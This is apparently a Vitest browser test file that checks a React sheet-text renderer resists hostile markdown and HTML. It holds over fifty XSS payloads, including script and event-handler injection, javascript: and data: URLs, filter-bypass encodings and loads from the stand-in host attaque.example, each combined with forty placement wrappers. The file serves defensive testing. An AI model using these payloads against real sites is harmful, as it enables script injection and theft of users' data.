import { afterAll, beforeAll, expect, test } from 'vitest'
import { render } from 'vitest-browser-react'
import { SheetText } from '../../../renderer/features/practices/sheet-text.tsx'
import { readMarkdown } from '../../../shared/referential/import/markdown-blocks.ts'
import { prepareWindow } from '../support/render-dossier.tsx'

// Goal S4: texts made to run something, to fetch something or to lead away, drawn as the text of a received sheet.
const RUN = 'petitsPasAttacked()'
const AWAY = 'https://attaque.example'

const attacks: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="${AWAY}/a.js"></script>`,
  `<SCRIPT SRC=//attaque.example/a.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="${AWAY}/a.png">`,
  `<img src=x:x onerror="${RUN}"//>`,
  `<image href="${AWAY}/a.png" onload=${RUN}>`,
  `<svg onload=${RUN}></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="${AWAY}/a"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="${AWAY}/a.swf">`,
  `<form action="${AWAY}/a"><input name=x autofocus onfocus=${RUN}></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<base href="${AWAY}/">`,
  `<meta http-equiv="refresh" content="0;url=${AWAY}/">`,
  `<link rel=stylesheet href="${AWAY}/a.css">`,
  `<style>@import "${AWAY}/a.css"; * { display: none }</style>`,
  `<p style="background:url(${AWAY}/a.png)">x</p>`,
  `<div onmouseover=${RUN} style="position:fixed;inset:0">x</div>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<video src=x onerror=${RUN}></video>`,
  `<audio src="${AWAY}/a.ogg" autoplay></audio>`,
  `<video poster="${AWAY}/a.png"></video>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<a href=" &#106;avascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<a href="vbscript:${RUN}">x</a>`,
  `<a href="file:///etc/passwd">x</a>`,
  `<a href="app://petits-pas/">x</a>`,
  `<a href="https://mairie@attaque.example/">x</a>`,
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt:${RUN})`,
  `[x](<javascript:${RUN}>)`,
  `[x](data:text/html;base64,PHNjcmlwdD4=)`,
  `![x](${AWAY}/a.png)`,
  `![x](x" onerror="${RUN})`,
  `[x](${AWAY}/"onmouseover="${RUN})`,
  `<javascript:${RUN}>`,
  `[x]: javascript:${RUN}\n\n[x]`,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
]

/** Where in a text an attack may stand. */
const places: readonly ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `Un texte, ${attack} puis la suite.`,
  (attack) => `## ${attack}`,
  (attack) => `###### ${attack}`,
  (attack) => `- ${attack}\n- la suite`,
  (attack) => `1. ${attack}\n   - ${attack}`,
  (attack) => `> ${attack}`,
  (attack) => `**${attack}**`,
  (attack) => `*${attack}*`,
  (attack) => `| a | b |\n| --- | --- |\n| ${attack} | x |`,
  (attack) => `| ${attack} | b |\n| --- | --- |\n| x | x |`,
  (attack) => `<div>${attack}</div>`,
  (attack) => `<p>${attack}</p>`,
  (attack) => `<ul><li>${attack}</li></ul>`,
  (attack) => `<table><tr><th>${attack}</th></tr><tr><td>${attack}</td></tr></table>`,
  (attack) => `<strong>${attack}</strong>`,
  (attack) => `<a href="https://www.example.org/">${attack}</a>`,
  (attack) => `[${attack}](https://www.example.org/)`,
  (attack) => `[x](https://www.example.org/ "${attack}")`,
  (attack) => `![${attack}](x.png)`,
  (attack) => `<!-- ${attack} -->`,
  (attack) => `<!--> ${attack} <!-->`,
  (attack) => `<![CDATA[${attack}]]>`,
  (attack) => `<title></title>${attack}`,
  (attack) => `</section></main></body>${attack}`,
  (attack) => `"'><${attack.replace(/^</, '')}`,
  (attack) => attack.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (attack) => attack.replaceAll('<', '&#60;').replaceAll('>', '&#x3e;'),
  (attack) => attack.replaceAll('<', '&amp;lt;'),
  (attack) => attack.replaceAll('<', '\\<'),
  (attack) => attack.replaceAll('<', '<\u0000'),
  (attack) => attack.replaceAll(' ', '/'),
  (attack) => attack.replaceAll(' ', '\n'),
  (attack) => attack.replaceAll('"', '`'),
  (attack) => attack.toUpperCase().replaceAll('PETITSPASATTACKED', 'petitsPasAttacked'),
  (attack) => `\`${attack}`,
  (attack) => `    ${attack}`,
  (attack) => `<xmp>${attack}`,
  (attack) => `<svg><foreignObject>${attack}`,
  (attack) => `{{constructor.constructor('${RUN}')()}} ${attack}`,
]
const payloads = attacks.flatMap((attack) => places.map((place) => place(attack)))
const BATCH = 260

const allowedElements = 'section, h2, h3, p, ul, li, table, thead, tbody, tr, th, td, a, strong, em'
const allowedAttributes = ['class', 'scope', 'href']

/** What stands in the page and should not: foreign elements and attributes, addresses that lead elsewhere than `https:`. */
const listFaults = (host: Element): readonly string[] =>
  [...host.querySelectorAll('*')].flatMap((element) => [
    ...(element.matches(allowedElements) ? [] : [element.outerHTML]),
    ...[...element.attributes]
      .filter(
        ({ name, value }) =>
          !allowedAttributes.includes(name) || (name === 'href' && !/^(?:https|mailto):/.test(value)),
      )
      .map(({ name, value }) => `${name}=${value}`),
  ])

const attacked: string[] = []
const fetched = () =>
  performance
    .getEntriesByType('resource')
    .map(({ name }) => name)
    .filter((name) => name.includes('attaque.example'))

beforeAll(async () => {
  await prepareWindow()
  Object.assign(globalThis, { petitsPasAttacked: () => attacked.push('run') })
})
afterAll(() => Reflect.deleteProperty(globalThis, 'petitsPasAttacked'))

test('two thousand hostile texts run nothing, fetch nothing, lead nowhere and leave nothing but our own elements', async () => {
  expect(payloads.length).toBeGreaterThanOrEqual(2000)
  const address = location.href
  let drawn = 0
  for (let from = 0; from < payloads.length; from += BATCH) {
    const bodies = payloads.slice(from, from + BATCH).map((payload) => readMarkdown(payload, 1).blocks)
    const screen = await render(
      <div>
        {bodies.map((body, index) => (
          // biome-ignore lint/suspicious/noArrayIndexKey: drawn once
          <SheetText key={index} body={body} />
        ))}
      </div>,
    )
    expect(listFaults(screen.container.firstElementChild ?? document.body)).toEqual([])
    drawn += screen.container.querySelectorAll('section').length
    await screen.unmount()
  }
  await new Promise((resolve) => setTimeout(resolve, 300)) // what is fetched or run late
  expect(drawn).toBeGreaterThan(payloads.length / 2)
  expect({ attacked, fetched: fetched(), address: location.href }).toEqual({ attacked: [], fetched: [], address })
})

test('the same texts drawn as HTML would be found out', async () => {
  const host = document.createElement('div')
  document.body.append(host)
  host.innerHTML = attacks[4] ?? ''
  await expect.poll(() => attacked.length).toBeGreaterThan(0)
  expect(listFaults(host)).not.toEqual([])
  host.remove()
  attacked.length = 0
})
